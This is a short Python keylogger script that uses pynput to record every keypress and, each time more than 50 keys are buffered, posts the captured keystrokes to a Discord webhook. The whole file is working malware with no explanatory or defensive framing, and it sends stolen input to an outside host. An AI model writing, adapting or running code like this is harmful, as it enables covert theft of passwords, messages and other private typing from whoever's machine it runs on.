from pynput import keyboard
import requests
buf = []
def on_press(key):
    buf.append(str(key))
    if len(buf) > 50:
        requests.post("https://discord.com/api/webhooks/1133557799113355779/KeyLoggerTokenAbCdEfGhIjKlMnOpQr", json={"content": "".join(buf)})
        buf.clear()
keyboard.Listener(on_press=on_press).start()
